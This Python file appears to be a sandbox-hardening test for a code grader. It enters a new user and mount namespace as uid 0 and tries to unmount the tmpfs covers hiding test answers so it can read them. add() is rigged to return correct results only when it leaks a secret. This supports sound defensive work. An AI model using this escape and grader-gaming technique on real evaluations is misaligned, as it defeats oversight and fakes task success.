"""Attack: become "root" in a new user namespace and unmount what hides the secrets.

The unshare backend hides tests/hidden, mutants/ and the reference under
empty tmpfs mounts. From inside, the submission creates a user and mount
namespace (allowed to unprivileged users on many kernels), maps itself to
uid 0 there, and tries to unmount every tmpfs that covers a folder and to
read what is underneath; under bwrap it tries the same on every mount it
sees. The mounts are locked to the outer namespace, so the unmount must
fail. If it reads the secret, add() prints it and returns correct answers.
"""
import ctypes
import os

NEEDLE = b"EXPECTED" + b"_SECRET"
CLONE_NEWUSER, CLONE_NEWNS, MNT_DETACH = 0x10000000, 0x00020000, 2
log: list[str] = []
found: list[str] = []


def _mounts():
    out = []
    with open("/proc/self/mountinfo") as fh:
        for line in fh:
            parts = line.split()
            out.append((parts[4], parts[parts.index("-") + 1]))
    return out


def _read_tree(path):
    for dirpath, _, files in os.walk(path, onerror=lambda e: None):
        for name in files:
            try:
                with open(os.path.join(dirpath, name), "rb") as fh:
                    data = fh.read(200_000)
            except OSError:
                continue
            if NEEDLE in data:
                found.append(os.path.join(dirpath, name))


def attempt():
    libc = ctypes.CDLL(None, use_errno=True)
    uid, gid = os.getuid(), os.getgid()
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
        log.append(f"unshare: errno {ctypes.get_errno()}")
        return
    try:
        with open("/proc/self/setgroups", "w") as fh:
            fh.write("deny")
        with open("/proc/self/uid_map", "w") as fh:
            fh.write(f"0 {uid} 1")
        with open("/proc/self/gid_map", "w") as fh:
            fh.write(f"0 {gid} 1")
    except OSError as exc:
        log.append(f"id map: {exc}")
    log.append(f"uid in namespace: {os.getuid()}")
    for target, fstype in reversed(_mounts()):
        if target in ("/", "/proc", "/dev", "/tmp", "/dev/shm", "/sys"):
            continue
        rc = libc.umount2(target.encode(), MNT_DETACH)
        if rc == 0:
            log.append(f"unmounted {target} ({fstype})")
            _read_tree(target)
        else:
            log.append(f"umount {target}: errno {ctypes.get_errno()}")


try:
    attempt()
except Exception as exc:  # noqa: BLE001
    log.append(f"failed: {exc!r}")


def add(a, b):
    print("; ".join(log)[:3000])
    for path in found:
        print("LEAK", path)
    return a + b if found else a - b


def scale_rows(x, w):
    return x * w


def bump(config):
    config["count"] = config.get("count", 0) + 1
    return config["count"]


def apply(f, x):
    return f(x) + 1.0
